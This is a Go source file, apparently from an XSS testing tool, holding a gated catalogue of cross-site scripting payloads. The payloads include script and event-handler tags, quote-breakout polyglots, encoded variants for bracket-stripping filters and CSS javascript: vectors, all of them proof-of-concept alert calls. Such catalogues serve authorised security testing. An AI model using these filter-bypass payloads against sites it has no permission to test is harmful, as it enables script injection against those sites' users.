package payloads

import "github.com/lcalzada-xor/xssdynagen/pkg/models"

// Family is a group of predefined payloads that is included as a whole
// once its gate accepts the profile.
type Family struct {
	Name        string
	Description string
	Gate        func(p *models.ParamProfile) bool
	Payloads    []string
}

func scriptTagGate(p *models.ParamProfile) bool {
	return p.AllowsAngles && p.AllowsScripts && p.AllowedChars.HasAll("=/")
}

// Families is the predefined payload catalog
var Families = []Family{
	{
		Name:        "script-tag",
		Description: "Script and event-handler tags",
		Gate:        scriptTagGate,
		Payloads: []string{
			"<script>alert(1)</script>",
			"<script>prompt(1)</script>",
			"<script>confirm(1)</script>",
			"<svg onload=alert(1)>",
			"<svg/onload=prompt()>",
			"<svg/onload=alert&sol;**&sol;(3)>",
			"<svg/onload=alert/*1337*/(1)>",
			"<svg/onload=alert//&NewLine;(2)>",
			"<svg/onload=alert/&#42;&#42;/(4)>",
			"<svg/onload=alert&#x2F;**&#47;(5)>",
			"<body onload=alert(1)>",
			"<iframe onload=alert(1)>",
		},
	},
	{
		Name:        "script-tag-quoted",
		Description: "Attribute breakouts and polyglots needing quotes",
		Gate: func(p *models.ParamProfile) bool {
			return scriptTagGate(p) && p.AllowsQuotes
		},
		Payloads: []string{
			"<script type=\"text/javascript\">javascript:alert(1);</script>",
			"\"><script>prompt()</script>",
			"\"><img src=x onerror=prompt()>",
			"\"><iMg SrC=x onError=prompt()>",
			"<img src=\"x\" onerror=\"alert(1)\">",
			"javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert()//>",
			"'\"--></style></script><svg onload=alert(1)//",
			"\"'--></style></script><img src=x onerror=alert(1)>",
			"javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=alert(1)//>",
		},
	},
	{
		Name:        "angle-blocked-encoded",
		Description: "Encoded script tags for parameters that drop angle brackets",
		Gate: func(p *models.ParamProfile) bool {
			return !p.AllowsAngles
		},
		Payloads: []string{
			"javascript:alert(1)",
			"&lt;script&gt;alert(1)&lt;/script&gt;",
			"\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E",
			"&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
			"%3Cscript%3Ealert(1)%3C/script%3E",
			"\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E",
		},
	},
	{
		Name:        "css-injection",
		Description: "Style based vectors",
		Gate: func(p *models.ParamProfile) bool {
			return p.AllowsAngles && p.AllowsQuotes
		},
		Payloads: []string{
			"<style>@import 'javascript:alert(1)';</style>",
			"<link rel=stylesheet href=javascript:alert(1)>",
			"<div style='background-image: url(javascript:alert(1))'>",
			"<style>*[{}*{background:url(javascript:alert(1))}]{color: red};</style>",
			"<div style=\"background:url(javascript:alert(1))\">",
			"<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationend=\"alert(1)\"></div>",
		},
	},
}

// Predefined returns the payloads of every family whose gate accepts p
func Predefined(p *models.ParamProfile) []string {
	var out []string
	for _, f := range Families {
		if f.Gate(p) {
			out = append(out, f.Payloads...)
		}
	}
	return out
}
